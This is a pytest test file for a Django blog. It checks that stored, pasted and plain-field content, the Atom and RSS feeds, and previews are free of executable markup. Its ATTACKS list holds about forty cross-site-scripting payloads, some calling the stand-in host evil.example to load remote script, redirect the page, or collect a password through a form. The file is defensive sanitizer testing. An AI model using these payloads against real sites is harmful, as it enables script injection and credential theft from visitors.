"""Nothing that staff paste, or code stores, can run in a reader's browser or feed reader."""

import re
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from django.urls import reverse

from blog import previews
from blog.models import Post, RichText
from tests.blog.factories import add_quote, make_author, make_post

pytestmark = pytest.mark.django_db

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script >alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    '<a href="https://x.example" onclick="alert(1)">x</a>',
    "<p onmouseover=alert(1)>x</p>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<h2 id="main" class="vh">x</h2>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</div></article><script>alert(1)</script>",
    "<p>\u2028<img src=x onerror=alert(1)//",
]
HARMLESS = {
    "p h2 h3 h4 ul ol li a strong em br hr blockquote table thead tbody tr th td caption",
    "figure figcaption span",
}
ALLOWED_TAGS = set(" ".join(HARMLESS).split())
ALLOWED_ATTRIBUTES = {"href", "rel", "scope", "colspan", "rowspan"}
NEVER = re.compile(r"(?!)")
OUR_ANCHORS = {  # what the page adds to headings, in just this form
    ("h2", "id"): re.compile(r"s-[\w-]*"),
    ("h3", "id"): re.compile(r"s-[\w-]*"),
    ("h4", "id"): re.compile(r"s-[\w-]*"),
    ("a", "class"): re.compile("anchor"),
    ("a", "aria-label"): re.compile("Link to this section"),
}


class Dangers(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if OUR_ANCHORS.get((tag, name), NEVER).fullmatch(value or ""):
                continue
            if name not in ALLOWED_ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name == "href" and not value.startswith(
                ("http://", "https://", "mailto:", "/", "#")
            ):
                self.found.append(f"{tag} {name}={value}")


def dangers(markup):
    parser = Dangers()
    parser.feed(markup)
    parser.close()
    return parser.found


def prose(page):
    return page.split('<div class="prose">')[1].split("<aside")[0].rpartition("</div>")[0]


def full_texts(client):
    atom = ElementTree.fromstring(client.get(reverse("blog:feed")).content)  # noqa: S314  our own
    rss = ElementTree.fromstring(client.get(reverse("blog:feed-rss")).content)  # noqa: S314
    return [
        *(entry.text for entry in atom.iter("{http://www.w3.org/2005/Atom}content")),
        *(item.text for item in rss.iter("{http://purl.org/rss/1.0/modules/content/}encoded")),
    ]


def shown(client, post):
    texts = [prose(client.get(post.get_absolute_url()).text), *full_texts(client)]
    return [*texts, prose(client.get(previews.address(post)).text)]


def test_the_check_itself_sees_dangers():
    assert dangers("<p onclick=x><script>1</script><a href='javascript:1'>y</a></p>") == [
        "p onclick",
        "script",
        "a href=javascript:1",
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_code_saves_is_clean_when_stored_and_shown(client, attack):
    post = make_post(text=f"<p>before</p>{attack}<p>after</p>")
    assert dangers(post.blog_richtext_set.get().text) == []
    for text in shown(client, post):
        assert dangers(text) == []
        assert "before" in text


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_reaches_the_table_raw_is_still_clean_when_shown(client, attack):
    post = make_post(text="<p>clean</p>")
    RichText.objects.update(text=f"<p>before</p>{attack}<p>after</p>")
    for text in shown(client, post):
        assert dangers(text) == []


@pytest.mark.parametrize("attacks", [ATTACKS[:20], ATTACKS[20:]], ids=["first", "rest"])
def test_what_staff_paste_into_the_form_is_clean(admin_client, client, attacks):
    form = {
        "title": "Pasted",
        "slug": "pasted",
        "excerpt": "x",
        "status": "published",
        "published_at_0": "01/10/2013",
        "published_at_1": "09:00:00",
        "author": make_author().pk,
        "blog_richtext_set-TOTAL_FORMS": len(attacks),
        "blog_richtext_set-INITIAL_FORMS": 0,
    }
    for kind in ("image", "quote", "calltoaction", "video"):
        form |= {f"blog_{kind}_set-TOTAL_FORMS": 0, f"blog_{kind}_set-INITIAL_FORMS": 0}
    for number, attack in enumerate(attacks):
        form[f"blog_richtext_set-{number}-region"] = "main"
        form[f"blog_richtext_set-{number}-ordering"] = number
        form[f"blog_richtext_set-{number}-text"] = f"<p>before</p>{attack}"
    response = admin_client.post(reverse("admin:blog_post_add"), form)
    assert response.status_code == 302
    post = Post.objects.get(slug="pasted")
    assert post.blog_richtext_set.count() == len(attacks)
    assert all(dangers(block.text) == [] for block in post.blog_richtext_set.all())
    for text in shown(client, post):
        assert dangers(text) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_plain_fields_are_escaped(client, attack):
    post = make_post(title=attack[:200], excerpt=attack)
    quote = add_quote(post, attack, attribution=attack[:200])
    page = client.get(post.get_absolute_url()).text
    assert dangers(prose(page)) == []
    assert attack not in page
    assert quote.text == attack
    for path in ("blog:index", "blog:feed", "blog:feed-rss", "blog:search"):
        assert attack not in client.get(reverse(path), {"q": "alert"}).text
